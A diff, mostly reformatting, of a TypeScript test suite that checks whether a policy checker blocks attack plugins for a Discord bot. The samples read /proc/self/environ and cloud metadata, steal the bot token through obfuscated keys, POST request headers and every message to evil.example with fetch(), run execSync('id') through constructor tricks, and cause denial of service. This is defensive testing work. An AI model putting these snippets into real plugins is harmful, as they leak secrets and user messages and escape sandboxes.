@@ -59,19 +59,42 @@ const NOT_ALLOWED = /^files\/not-allowed$/;
 
 const ATTACKS: Attack[] = [
   // secrets out through Discord
-  { name: "reply-files-proc-environ", files: plugin("a1", oldApi(`await interaction.reply({ files: ["/proc/self/environ"] });`)), rules: [IMPORT_CORE, /^api\/secret-path$/] },
-  { name: "api-reply-files-proc-environ", files: plugin("a2", newApi(`await call.reply({ files: ["/proc/self/environ"] as any });`)), rules: [/^api\/secret-path$/] },
-  { name: "attachment-builder-path", files: plugin("a3", `import { AttachmentBuilder } from "discord.js";\nexport const file = (p: string) => new AttachmentBuilder(p);\n`), rules: [IMPORT_PACKAGE] },
-  { name: "reply-files-url", files: plugin("a4", oldApi(`await interaction.reply({ files: ["http://169.254.169.254/latest/meta-data/iam/"] });`)), rules: [IMPORT_CORE] },
+  {
+    name: "reply-files-proc-environ",
+    files: plugin("a1", oldApi(`await interaction.reply({ files: ["/proc/self/environ"] });`)),
+    rules: [IMPORT_CORE, /^api\/secret-path$/],
+  },
+  {
+    name: "api-reply-files-proc-environ",
+    files: plugin("a2", newApi(`await call.reply({ files: ["/proc/self/environ"] as any });`)),
+    rules: [/^api\/secret-path$/],
+  },
+  {
+    name: "attachment-builder-path",
+    files: plugin("a3", `import { AttachmentBuilder } from "discord.js";\nexport const file = (p: string) => new AttachmentBuilder(p);\n`),
+    rules: [IMPORT_PACKAGE],
+  },
+  {
+    name: "reply-files-url",
+    files: plugin("a4", oldApi(`await interaction.reply({ files: ["http://169.254.169.254/latest/meta-data/iam/"] });`)),
+    rules: [IMPORT_CORE],
+  },
   // arbitrary code
   {
     name: "sharding-manager-execArgv",
-    files: plugin("a5", `import { ShardingManager } from "discord.js";\nexport const m = () => new ShardingManager("bot/main.ts", { execArgv: ["--import=data:text/javascript,console.log(JSON.stringify(process.env))"] }).spawn();\n`),
+    files: plugin(
+      "a5",
+      `import { ShardingManager } from "discord.js";\nexport const m = () => new ShardingManager("bot/main.ts", { execArgv: ["--import=data:text/javascript,console.log(JSON.stringify(process.env))"] }).spawn();\n`,
+    ),
     rules: [IMPORT_PACKAGE],
   },
   {
     name: "sharding-manager-extensionless-file",
-    files: plugin("a6", `import { ShardingManager } from "discord.js";\nexport const m = () => new ShardingManager(new URL("./payload", import.meta.url).pathname).spawn();\n`, { payload: `import("node:child_process").then((cp) => cp.execSync("id"));\n` }),
+    files: plugin(
+      "a6",
+      `import { ShardingManager } from "discord.js";\nexport const m = () => new ShardingManager(new URL("./payload", import.meta.url).pathname).spawn();\n`,
+      { payload: `import("node:child_process").then((cp) => cp.execSync("id"));\n` },
+    ),
     rules: [IMPORT_PACKAGE, NOT_ALLOWED],
   },
   {
@@ -83,85 +106,217 @@ const ATTACKS: Attack[] = [
     rules: [IMPORT_PACKAGE],
     file: "bot/plugins/a7/index.test.ts",
   },
-  { name: "new-Object-constructor-src", files: plugin("a8", `export const run = (src: string) => new Object.constructor(src)();\n`), rules: [/^api\/function-constructor$/] },
-  { name: "new-function-constructor-src", files: plugin("a9", `const f = () => 0;\nexport const run = (src: string) => new f.constructor(src)();\n`), rules: [/^api\/function-constructor$/] },
-  { name: "new-array-map-constructor-src", files: plugin("a10", `export const run = (src: string) => new [].map.constructor(src)();\n`), rules: [/^api\/function-constructor$/] },
-  { name: "reflect-construct-Object-constructor", files: plugin("a11", `export const run = (src: string) => Reflect.construct(Object.constructor, [src])();\n`), rules: [/^api\/function-constructor$/] },
-  { name: "cjs-wrapper-arguments-ts", files: plugin("a12", `const req = arguments[1];\nexport const id = () => req("child_process").execSync("id").toString();\n`), rules: [/^api\/forbidden-global$/] },
+  {
+    name: "new-Object-constructor-src",
+    files: plugin("a8", `export const run = (src: string) => new Object.constructor(src)();\n`),
+    rules: [/^api\/function-constructor$/],
+  },
+  {
+    name: "new-function-constructor-src",
+    files: plugin("a9", `const f = () => 0;\nexport const run = (src: string) => new f.constructor(src)();\n`),
+    rules: [/^api\/function-constructor$/],
+  },
+  {
+    name: "new-array-map-constructor-src",
+    files: plugin("a10", `export const run = (src: string) => new [].map.constructor(src)();\n`),
+    rules: [/^api\/function-constructor$/],
+  },
+  {
+    name: "reflect-construct-Object-constructor",
+    files: plugin("a11", `export const run = (src: string) => Reflect.construct(Object.constructor, [src])();\n`),
+    rules: [/^api\/function-constructor$/],
+  },
+  {
+    name: "cjs-wrapper-arguments-ts",
+    files: plugin("a12", `const req = arguments[1];\nexport const id = () => req("child_process").execSync("id").toString();\n`),
+    rules: [/^api\/forbidden-global$/],
+  },
   {
     name: "cjs-wrapper-arguments-cts",
-    files: { "bot/plugins/a13/index.cts": `const req = arguments[1];\nmodule.exports = () => req("child_process").execSync("id").toString();\n`, "bot/plugins/a13/index.test.ts": TEST },
+    files: {
+      "bot/plugins/a13/index.cts": `const req = arguments[1];\nmodule.exports = () => req("child_process").execSync("id").toString();\n`,
+      "bot/plugins/a13/index.test.ts": TEST,
+    },
     rules: [NOT_ALLOWED, /^api\/forbidden-global$/],
     file: "bot/plugins/a13/index.cts",
   },
   // the bot token
-  { name: "client-computed-join", files: plugin("a14", oldApi(`await interaction.reply(String((interaction.client as any)[["to", "ken"].join("")]));`)), rules: [IMPORT_CORE, /^api\/client-token$/] },
-  { name: "client-fromCharCode", files: plugin("a15", oldApi(`await interaction.reply(String((interaction.client as any)[String.fromCharCode(116, 111, 107, 101, 110)]));`)), rules: [IMPORT_CORE, /^api\/client-token$/] },
-  { name: "client-ownKeys-loop", files: plugin("a16", oldApi(`for (const k of Reflect.ownKeys(interaction.client)) await interaction.followUp(String((interaction.client as any)[k]));`)), rules: [IMPORT_CORE, /^api\/client-token$/] },
+  {
+    name: "client-computed-join",
+    files: plugin("a14", oldApi(`await interaction.reply(String((interaction.client as any)[["to", "ken"].join("")]));`)),
+    rules: [IMPORT_CORE, /^api\/client-token$/],
+  },
+  {
+    name: "client-fromCharCode",
+    files: plugin(
+      "a15",
+      oldApi(`await interaction.reply(String((interaction.client as any)[String.fromCharCode(116, 111, 107, 101, 110)]));`),
+    ),
+    rules: [IMPORT_CORE, /^api\/client-token$/],
+  },
+  {
+    name: "client-ownKeys-loop",
+    files: plugin(
+      "a16",
+      oldApi(`for (const k of Reflect.ownKeys(interaction.client)) await interaction.followUp(String((interaction.client as any)[k]));`),
+    ),
+    rules: [IMPORT_CORE, /^api\/client-token$/],
+  },
   {
     name: "client-key-from-another-file",
-    files: plugin("a17", oldApi(`await interaction.reply(String((interaction.client as any)[KEY]));`, `import { KEY } from "./keys.ts";\n`), { "keys.ts": `export const KEY = ["to", "ken"].join("");\n` }),
+    files: plugin(
+      "a17",
+      oldApi(`await interaction.reply(String((interaction.client as any)[KEY]));`, `import { KEY } from "./keys.ts";\n`),
+      { "keys.ts": `export const KEY = ["to", "ken"].join("");\n` },
+    ),
     rules: [IMPORT_CORE, /^api\/client-token$/],
   },
   {
     name: "rest-authorization-header",
-    files: plugin("a18", oldApi(`interaction.client.rest.on("response", (req: any) => void fetch("https://evil.example/", { method: "POST", body: JSON.stringify(req.headers) }));`)),
+    files: plugin(
+      "a18",
+      oldApi(
+        `interaction.client.rest.on("response", (req: any) => void fetch("https://evil.example/", { method: "POST", body: JSON.stringify(req.headers) }));`,
+      ),
+    ),
     rules: [IMPORT_CORE, /^api\/network$/],
   },
-  { name: "new-client-token", files: plugin("a19", `import { Client } from "discord.js";\nexport const t = () => new Client({ intents: [] }).token;\n`), rules: [IMPORT_PACKAGE, /^api\/client-token$/] },
-  { name: "bare-JSON-assignment", files: plugin("a20", `const real = JSON.stringify;\nJSON = { ...JSON, stringify: (v: unknown) => real(v) } as JSON;\nexport {};\n`), rules: [/^api\/global-mutation$/] },
-  { name: "active-handles-app-link", files: plugin("a21", `export const sniff = () => (process as any)._getActiveHandles().map((s: any) => s.remoteAddress);\n`), rules: [/^api\/forbidden-member$/] },
+  {
+    name: "new-client-token",
+    files: plugin("a19", `import { Client } from "discord.js";\nexport const t = () => new Client({ intents: [] }).token;\n`),
+    rules: [IMPORT_PACKAGE, /^api\/client-token$/],
+  },
+  {
+    name: "bare-JSON-assignment",
+    files: plugin("a20", `const real = JSON.stringify;\nJSON = { ...JSON, stringify: (v: unknown) => real(v) } as JSON;\nexport {};\n`),
+    rules: [/^api\/global-mutation$/],
+  },
+  {
+    name: "active-handles-app-link",
+    files: plugin("a21", `export const sniff = () => (process as any)._getActiveHandles().map((s: any) => s.remoteAddress);\n`),
+    rules: [/^api\/forbidden-member$/],
+  },
   // the environment and files
-  { name: "env-via-default-as-process", files: plugin("a22", `import { default as p } from "node:process";\nexport const t = p.env.DISCORD_TOKEN;\n`), rules: [IMPORT_BUILTIN, /^api\/env$/] },
+  {
+    name: "env-via-default-as-process",
+    files: plugin("a22", `import { default as p } from "node:process";\nexport const t = p.env.DISCORD_TOKEN;\n`),
+    rules: [IMPORT_BUILTIN, /^api\/env$/],
+  },
   {
     name: "fs-local-dirname",
-    files: plugin("a23", `import { readFileSync } from "node:fs";\nimport { join } from "node:path";\nconst __dirname = "/proc/self";\nexport const e = () => readFileSync(join(__dirname, "environ"), "utf8");\n`),
+    files: plugin(
+      "a23",
+      `import { readFileSync } from "node:fs";\nimport { join } from "node:path";\nconst __dirname = "/proc/self";\nexport const e = () => readFileSync(join(__dirname, "environ"), "utf8");\n`,
+    ),
     rules: [IMPORT_BUILTIN, /^api\/(fs-read|secret-path)$/],
   },
   {
     name: "fs-local-join",
-    files: plugin("a24", `import { readFileSync } from "node:fs";\nconst join = (..._p: string[]) => ["", "proc", "self", "environ"].join("/");\nexport const e = () => readFileSync(join(import.meta.dirname, "data.json"), "utf8");\n`),
+    files: plugin(
+      "a24",
+      `import { readFileSync } from "node:fs";\nconst join = (..._p: string[]) => ["", "proc", "self", "environ"].join("/");\nexport const e = () => readFileSync(join(import.meta.dirname, "data.json"), "utf8");\n`,
+    ),
     rules: [IMPORT_BUILTIN, /^api\/fs-read$/],
   },
   {
     name: "fs-local-URL",
-    files: plugin("a25", `import { readFileSync } from "node:fs";\nconst URL = function (_a: string, _b: string) { return ["", "proc", "self", "environ"].join("/"); } as any;\nexport const e = () => readFileSync(new URL("./data.json", import.meta.url), "utf8");\n`),
+    files: plugin(
+      "a25",
+      `import { readFileSync } from "node:fs";\nconst URL = function (_a: string, _b: string) { return ["", "proc", "self", "environ"].join("/"); } as any;\nexport const e = () => readFileSync(new URL("./data.json", import.meta.url), "utf8");\n`,
+    ),
     rules: [IMPORT_BUILTIN, /^api\/fs-read$/],
   },
-  { name: "fs-ReadStream", files: plugin("a26", `import fs from "node:fs";\nexport const s = (p: string) => new fs.ReadStream(p);\n`), rules: [IMPORT_BUILTIN, /^api\/fs-read$/] },
-  { name: "fs-globSync", files: plugin("a27", `import fs from "node:fs";\nexport const all = () => fs.globSync("/**/.env*");\n`), rules: [IMPORT_BUILTIN, /^api\/fs-read$/] },
-  { name: "getBuiltinModule-fs", files: plugin("a28", `const fs = process.getBuiltinModule("node:fs");\nexport const e = () => fs.readFileSync("/proc/self/environ", "utf8");\n`), rules: [IMPORT_BUILTIN] },
-  { name: "module-require", files: plugin("a29", `export const cp = () => (module as any).require("node:child_process");\n`), rules: [/^api\/(forbidden-member|forbidden-module)$/] },
+  {
+    name: "fs-ReadStream",
+    files: plugin("a26", `import fs from "node:fs";\nexport const s = (p: string) => new fs.ReadStream(p);\n`),
+    rules: [IMPORT_BUILTIN, /^api\/fs-read$/],
+  },
+  {
+    name: "fs-globSync",
+    files: plugin("a27", `import fs from "node:fs";\nexport const all = () => fs.globSync("/**/.env*");\n`),
+    rules: [IMPORT_BUILTIN, /^api\/fs-read$/],
+  },
+  {
+    name: "getBuiltinModule-fs",
+    files: plugin(
+      "a28",
+      `const fs = process.getBuiltinModule("node:fs");\nexport const e = () => fs.readFileSync("/proc/self/environ", "utf8");\n`,
+    ),
+    rules: [IMPORT_BUILTIN],
+  },
+  {
+    name: "module-require",
+    files: plugin("a29", `export const cp = () => (module as any).require("node:child_process");\n`),
+    rules: [/^api\/(forbidden-member|forbidden-module)$/],
+  },
   // powers the user lacks
-  { name: "forged-interaction-rollback", files: plugin("a30", oldApi(`interaction.client.emit("interactionCreate", Object.assign(Object.create(interaction), { commandName: "rollback" }));`)), rules: [IMPORT_CORE] },
-  { name: "wrap-core-listeners", files: plugin("a31", oldApi(`for (const l of interaction.client.listeners("interactionCreate")) interaction.client.off("interactionCreate", l as any);`)), rules: [IMPORT_CORE] },
+  {
+    name: "forged-interaction-rollback",
+    files: plugin(
+      "a30",
+      oldApi(`interaction.client.emit("interactionCreate", Object.assign(Object.create(interaction), { commandName: "rollback" }));`),
+    ),
+    rules: [IMPORT_CORE],
+  },
+  {
+    name: "wrap-core-listeners",
+    files: plugin(
+      "a31",
+      oldApi(`for (const l of interaction.client.listeners("interactionCreate")) interaction.client.off("interactionCreate", l as any);`),
+    ),
+    rules: [IMPORT_CORE],
+  },
   { name: "grant-roles", files: plugin("a32", oldApi(`await (interaction.member as any).roles.add("1");`)), rules: [IMPORT_CORE] },
-  { name: "read-every-message", files: plugin("a33", oldApi(`interaction.client.on("messageCreate", (m) => void fetch("https://evil.example/", { method: "POST", body: m.content }));`)), rules: [IMPORT_CORE, /^api\/network$/] },
+  {
+    name: "read-every-message",
+    files: plugin(
+      "a33",
+      oldApi(`interaction.client.on("messageCreate", (m) => void fetch("https://evil.example/", { method: "POST", body: m.content }));`),
+    ),
+    rules: [IMPORT_CORE, /^api\/network$/],
+  },
   // availability
   { name: "busy-loop", files: plugin("a34", newApi(`for (;;) {}`)), rules: [/^api\/busy-loop$/] },
-  { name: "atomics-wait", files: plugin("a35", newApi(`Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);`)), rules: [/^api\/forbidden-member$/] },
+  {
+    name: "atomics-wait",
+    files: plugin("a35", newApi(`Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);`)),
+    rules: [/^api\/forbidden-member$/],
+  },
   {
     name: "redos-responder",
-    files: plugin("a36", `import { definePlugin } from "../../core/plugin.ts";\nexport default definePlugin({ name: "x", description: "x", responders: [{ name: "x", trigger: /^(\\w+\\s?)*$/, respond: () => "hi" }] } as any);\n`),
+    files: plugin(
+      "a36",
+      `import { definePlugin } from "../../core/plugin.ts";\nexport default definePlugin({ name: "x", description: "x", responders: [{ name: "x", trigger: /^(\\w+\\s?)*$/, respond: () => "hi" }] } as any);\n`,
+    ),
     rules: [IMPORT_CORE, /^api\/redos$/],
   },
-  { name: "redos-in-own-code", files: plugin("a37", newApi(`if (/^(\\w+\\s?)*$/.test(String(call.options.text))) await call.reply("words");`)), rules: [/^api\/redos$/] },
+  {
+    name: "redos-in-own-code",
+    files: plugin("a37", newApi(`if (/^(\\w+\\s?)*$/.test(String(call.options.text))) await call.reply("words");`)),
+    rules: [/^api\/redos$/],
+  },
   // cross-file aliasing: one file hands process / globalThis / a constructor to another
   {
     name: "cross-file-process",
-    files: plugin("a38", `import { p } from "./helper.ts";\nexport const t = () => p.env.DISCORD_TOKEN;\n`, { "helper.ts": `export const p = process;\n` }),
+    files: plugin("a38", `import { p } from "./helper.ts";\nexport const t = () => p.env.DISCORD_TOKEN;\n`, {
+      "helper.ts": `export const p = process;\n`,
+    }),
     rules: [/^api\/exported-alias$/],
     file: "bot/plugins/a38/helper.ts",
   },
   {
     name: "cross-file-globalThis",
-    files: plugin("a39", `import { g } from "./helper.ts";\nexport const run = (s: string) => g[["ev", "al"].join("")](s);\n`, { "helper.ts": `const g: any = globalThis;\nexport { g };\n` }),
+    files: plugin("a39", `import { g } from "./helper.ts";\nexport const run = (s: string) => g[["ev", "al"].join("")](s);\n`, {
+      "helper.ts": `const g: any = globalThis;\nexport { g };\n`,
+    }),
     rules: [/^api\/exported-alias$/],
     file: "bot/plugins/a39/helper.ts",
   },
   {
     name: "cross-file-constructor",
-    files: plugin("a40", `import { C } from "./helper.ts";\nexport const run = (src: string) => new C(src)();\n`, { "helper.ts": `export const C: any = [].map.constructor;\n` }),
+    files: plugin("a40", `import { C } from "./helper.ts";\nexport const run = (src: string) => new C(src)();\n`, {
+      "helper.ts": `export const C: any = [].map.constructor;\n`,
+    }),
     rules: [/^api\/exported-alias$/],
     file: "bot/plugins/a40/helper.ts",
   },
@@ -172,7 +327,12 @@ const ATTACKS: Attack[] = [
     rules: [NOT_ALLOWED],
     file: `bot/plugins/b${i}/payload.${ext}`,
   })),
-  { name: "file-type-extensionless", files: plugin("b9", `export const x = 1;\n`, { run: `#!/usr/bin/env node\nconsole.log(process.env);\n` }), rules: [NOT_ALLOWED], file: "bot/plugins/b9/run" },
+  {
+    name: "file-type-extensionless",
+    files: plugin("b9", `export const x = 1;\n`, { run: `#!/usr/bin/env node\nconsole.log(process.env);\n` }),
+    rules: [NOT_ALLOWED],
+    file: "bot/plugins/b9/run",
+  },
 ];
 
 // Benign plugins on the plugin API, each with a vitest test using the API's test helpers.
@@ -342,7 +502,10 @@ let repo: OuroRepo;
 
 function judge(branch: string): { code: number; verdict: Verdict } {
   let out = "";
-  const code = runCli(["--repo", repo.dir, "--base", "main", "--head", branch, "--format", "json", "--head-branch", branch], { out: (s) => void (out += s), err: () => {} });
+  const code = runCli(["--repo", repo.dir, "--base", "main", "--head", branch, "--format", "json", "--head-branch", branch], {
+    out: (s) => void (out += s),
+    err: () => {},
+  });
   return { code, verdict: JSON.parse(out) as Verdict };
 }
 
@@ -377,10 +540,20 @@ describe("issue 10's attacks, as plugins, are blocked by the policy check (CLI, 
   it("says what is allowed: file, line, specifier and the allowlist", () => {
     const { verdict } = judge("ouro/attachment-builder-path");
     expect(verdict.findings).toContainEqual(
-      expect.objectContaining({ rule: "api/import-package", severity: "error", file: "bot/plugins/a3/index.ts", line: 1, message: expect.stringMatching(/"discord\.js".*allowed: zod/) }),
+      expect.objectContaining({
+        rule: "api/import-package",
+        severity: "error",
+        file: "bot/plugins/a3/index.ts",
+        line: 1,
+        message: expect.stringMatching(/"discord\.js".*allowed: zod/),
+      }),
     );
     const vitestNode = judge("ouro/start-vitest-execArgv").verdict.findings.find((f) => f.rule === "api/import-package");
-    expect(vitestNode).toMatchObject({ file: "bot/plugins/a7/index.test.ts", line: 2, message: expect.stringMatching(/"vitest\/node", a subpath of vitest/) });
+    expect(vitestNode).toMatchObject({
+      file: "bot/plugins/a7/index.test.ts",
+      line: 2,
+      message: expect.stringMatching(/"vitest\/node", a subpath of vitest/),
+    });
   });
 });
 
